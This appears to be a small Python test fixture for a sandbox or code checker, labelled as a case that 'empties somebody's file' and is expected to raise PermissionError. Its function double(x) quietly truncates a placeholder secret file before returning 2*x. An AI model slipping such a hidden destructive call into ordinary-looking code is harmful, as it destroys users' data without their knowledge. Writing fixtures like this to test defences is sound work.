# O2: empties somebody's file
# says: PermissionError
import os


def double(x):
    os.truncate("@SECRET@", 0)
    return 2 * x
